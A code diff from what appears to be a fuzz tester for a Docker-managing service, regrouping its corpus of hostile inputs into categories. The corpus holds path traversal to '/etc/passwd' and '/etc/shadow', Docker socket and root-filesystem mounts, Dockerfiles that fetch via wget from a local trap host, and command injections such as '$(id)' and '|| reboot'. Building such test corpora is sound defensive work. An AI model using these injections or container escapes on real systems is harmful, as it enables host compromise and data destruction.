@@ -71,37 +71,45 @@ function nested(depth: number): unknown {
   return value;
 }
 
-export function hostileStrings(ctx: CorpusContext): string[] {
+/**
+ * The corpus in categories. Sampling picks a category first, then a value, so a small category
+ * (user specs, Dockerfiles) is tried as often as a large one (object names).
+ */
+export function hostileCategories(ctx: CorpusContext): Record<string, string[]> {
   const trap = `127.0.0.1:${ctx.trapPort}`;
   const repo = ctx.image.split(':')[0] ?? ctx.image;
   const shortId = ctx.imageId.replace('sha256:', '');
   const ids = [...ctx.protectedIds, ctx.hostNetworkId];
-  return [
-    '', ' ', '.', '..', '../x', '../../../../etc/passwd', './', '/', '//', '..;/x',
-    'rt//busybox', 'rt/./busybox', 'rt/../busybox', `${repo}//x`, `${repo}/../x`, `${repo}/./x`, `${ctx.image}/..`, `x/../${repo}`,
-    `../${trap}/path`, `../../${trap}/path?x=`, `${trap}/x`, `${trap}/library/busybox:latest`, `http://${trap}/x`, `//${trap}/x`,
-    `localhost:${ctx.trapPort}/x`, `[::1]:${ctx.trapPort}/x`, `x@${trap}`,
-    '%2e%2e%2f', '%2e%2e/%2e%2e/x', '%252e%252e%252f', '..%2f..%2fx', '%2F', '%00', '%0d%0aX: y',
-    '?a=b', 'x?all=1&force=1', '#frag', 'x#y', 'a\\..\\b', '..\\..\\x', '\\\\host\\share',
-    'x\u0000y', '\u0000', '\r\nX-Injected: 1', '\t\n', '\u001b[31m', '\u202ecloudflared', 'cloud\u200bflared', 'a\ufeffb',
-    '\u0441loudflared', 'cloudflaｒed', 'ＣＬＯＵＤＦＬＡＲＥＤ', 'CLOUDFLARED', 'e\u0301', '\ud800', '😀'.repeat(50),
-    'x'.repeat(100_000), 'a'.repeat(257), 'a'.repeat(513), `${'../'.repeat(2000)}x`,
-    ...ctx.protectedNames.flatMap((n) => [n, `/${n}`, `${n}/`, `${n}.`, ` ${n}`, `${n}\u0000`, n.toUpperCase(), `${n}-2`, `*${n}*`]),
-    ...ids.flatMap((id) => [id, id.slice(0, 12), id.slice(0, 3), id.slice(0, 1), id.toUpperCase(), `sha256:${id}`]),
-    ...ctx.otherNames,
-    'host', 'HOST', 'Host', 'container:' + (ctx.protectedNames[0] ?? ''), `container:${ctx.protectedIds[0] ?? ''}`, 'bridge', 'none', 'default', 'private', 'shareable', 'ns:/proc/1/ns/net',
-    ctx.dockerSocket, '/var/run/docker.sock', '/run/docker.sock', '/var/run', '/proc/1/root', '/proc/self/root', '/proc/self/fd/0', '/dev/mem', '/etc/shadow', '/sys',
-    ctx.allowedDir, `${ctx.allowedDir}/sub`, `${ctx.allowedDir}/link`, `${ctx.allowedDir}/link/etc`, `${ctx.allowedDir}/../..`, `${ctx.allowedDir}/./../`, `${ctx.allowedDir}/sub/../../`, `${ctx.allowedDir}x`,
-    `${ctx.allowedDir}:/host`, `/:/host:rw`, `/var/run/docker.sock:/s`,
-    ctx.image, repo, ctx.imageId, shortId.slice(0, 12), shortId.slice(0, 2), `${repo}@sha256:${'0'.repeat(64)}`, 'busybox', 'docker.io/library/busybox', 'scratch',
-    `FROM ${ctx.image}\nADD http://${trap}/x /x`, `FROM ${ctx.image}\nADD --chmod=777 http://${trap}/y /y`, `FROM ${ctx.image}\nCOPY --from=busybox / /`,
-    `FROM ${ctx.image}\nONBUILD RUN id`, `# escape=\`\nFROM ${ctx.image}`, `FROM ${ctx.image}\nRUN wget http://${trap}/z`,
-    '{"a":1}', '[]', 'null', 'true', '{"__proto__":{"x":1}}', '__proto__', 'constructor', 'prototype', 'toString',
-    '-1', '0', '-0', '00', '+0', '9007199254740993', '1e999', 'NaN', 'Infinity', '0x10', '-9223372036854775808',
-    'root', '0:0', '0', 'toor', '65534:0', '1000:0', ':0', 'nobody', '-1:-1',
-    '${HOME}', '$(id)', '`id`', "'; kill 1 #", '|| reboot', 'a=b', 'key=', '=value', 'privileged=true', 'label=disable', 'apparmor=unconfined', 'seccomp=unconfined',
-    'SIGKILL', 'KILL', '9', '*', '**', '?', '[a-z]', '.*', '(a+)+$',
-  ];
+  const a = ctx.allowedDir;
+  return {
+    paths: ['', ' ', '.', '..', '../x', '../../../../etc/passwd', './', '/', '//', '..;/x', 'rt//busybox', 'rt/./busybox', 'rt/../busybox',
+      `${repo}//x`, `${repo}/../x`, `${repo}/./x`, `${ctx.image}/..`, `x/../${repo}`, 'a\\..\\b', '..\\..\\x', '\\\\host\\share'],
+    network: [`../${trap}/path`, `../../${trap}/path?x=`, `${trap}/x`, `${trap}/library/busybox:latest`, `http://${trap}/x`, `//${trap}/x`,
+      `localhost:${ctx.trapPort}/x`, `[::1]:${ctx.trapPort}/x`, `x@${trap}`],
+    encodings: ['%2e%2e%2f', '%2e%2e/%2e%2e/x', '%252e%252e%252f', '..%2f..%2fx', '%2F', '%00', '%0d%0aX: y', '?a=b', 'x?all=1&force=1', '#frag', 'x#y'],
+    control: ['x\u0000y', '\u0000', '\r\nX-Injected: 1', '\t\n', '\u001b[31m'],
+    unicode: ['\u202ecloudflared', 'cloud\u200bflared', 'a\ufeffb', '\u0441loudflared', 'cloudflaｒed', 'ＣＬＯＵＤＦＬＡＲＥＤ', 'CLOUDFLARED', 'e\u0301', '\ud800', '😀'.repeat(50)],
+    sizes: ['x'.repeat(100_000), 'a'.repeat(257), 'a'.repeat(513), `${'../'.repeat(2000)}x`],
+    protectedNames: ctx.protectedNames.flatMap((n) => [n, `/${n}`, `${n}/`, `${n}.`, ` ${n}`, `${n}\u0000`, n.toUpperCase(), `${n}-2`, `*${n}*`]),
+    ids: ids.flatMap((id) => [id, id.slice(0, 12), id.slice(0, 3), id.slice(0, 1), id.toUpperCase(), `sha256:${id}`]),
+    otherNames: ctx.otherNames,
+    namespaces: ['host', 'HOST', 'Host', `container:${ctx.protectedNames[0] ?? ''}`, `container:${ctx.protectedIds[0] ?? ''}`, 'bridge', 'none', 'default', 'private', 'shareable', 'ns:/proc/1/ns/net'],
+    hostPaths: [ctx.dockerSocket, '/var/run/docker.sock', '/run/docker.sock', '/var/run', '/proc/1/root', '/proc/self/root', '/proc/self/fd/0', '/dev/mem', '/etc/shadow', '/sys',
+      `${a}:/host`, '/:/host:rw', '/var/run/docker.sock:/s'],
+    allowedDir: [a, `${a}/sub`, `${a}/link`, `${a}/link/etc`, `${a}/../..`, `${a}/./../`, `${a}/sub/../../`, `${a}x`],
+    images: [ctx.image, repo, ctx.imageId, shortId.slice(0, 12), shortId.slice(0, 2), `${repo}@sha256:${'0'.repeat(64)}`, 'busybox', 'docker.io/library/busybox', 'scratch'],
+    dockerfiles: [`FROM ${ctx.image}\nADD http://${trap}/x /x`, `FROM ${ctx.image}\nADD --chmod=777 http://${trap}/y /y`, `FROM ${ctx.image}\nCOPY --from=busybox / /`,
+      `FROM ${ctx.image}\nONBUILD RUN id`, `# escape=\`\nFROM ${ctx.image}`, `FROM ${ctx.image}\nRUN wget http://${trap}/z`, `FROM ${trap}/x`],
+    json: ['{"a":1}', '[]', 'null', 'true', '{"__proto__":{"x":1}}', '__proto__', 'constructor', 'prototype', 'toString'],
+    numbers: ['-1', '0', '-0', '00', '+0', '9007199254740993', '1e999', 'NaN', 'Infinity', '0x10', '-9223372036854775808'],
+    users: ['root', '0:0', '0', 'toor', '65534:0', '1000:0', ':0', 'nobody', '-1:-1', 'root:root', '0:65534', 'nobody:root'],
+    injection: ['${HOME}', '$(id)', '`id`', "'; kill 1 #", '|| reboot', 'a=b', 'key=', '=value', 'privileged=true', 'label=disable', 'apparmor=unconfined', 'seccomp=unconfined'],
+    globs: ['SIGKILL', 'KILL', '9', '*', '**', '?', '[a-z]', '.*', '(a+)+$'],
+  };
+}
+
+export function hostileStrings(ctx: CorpusContext): string[] {
+  return Object.values(hostileCategories(ctx)).flat();
 }
 
 export interface JsonSchema {
@@ -143,13 +151,15 @@ const typeOf = (schema: JsonSchema): string | undefined => (Array.isArray(schema
 
 export class ValueGenerator {
   readonly strings: string[];
+  private readonly categories: string[][];
   /**
    * `plausibleStrings`: real names for arguments not under attack; `hints`: the ones to prefer for an
    * argument of that name (a running container for `container`, the test image for `image`), so the
    * hostile value in the other argument gets past the lookups and reaches the policy and Docker.
    */
   constructor(private readonly rng: Rng, readonly ctx: CorpusContext, private readonly plausibleStrings: string[], private readonly hints: Record<string, string[]> = {}) {
-    this.strings = hostileStrings(ctx);
+    this.categories = Object.values(hostileCategories(ctx)).filter((c) => c.length);
+    this.strings = this.categories.flat();
   }
 
   /** A hostile value for `schema`: usually one the schema accepts (so it reaches the handler), sometimes not. */
@@ -176,10 +186,10 @@ export class ValueGenerator {
       (!re || re.test(s)) && s.length >= (schema?.minLength ?? 0) && s.length <= (schema?.maxLength ?? Infinity);
     // Two in three try to get past validation: those are the ones that can reach Docker.
     if (schema && this.rng.chance(0.66)) {
-      const passing = this.strings.filter(fits);
-      if (passing.length) return this.rng.pick(passing);
+      const passing = this.categories.map((c) => c.filter(fits)).filter((c) => c.length);
+      if (passing.length) return this.rng.pick(this.rng.pick(passing));
     }
-    const base = this.rng.pick(this.strings);
+    const base = this.rng.pick(this.rng.pick(this.categories));
     return this.rng.chance(0.15) ? this.mutate(base) : base;
   }
 
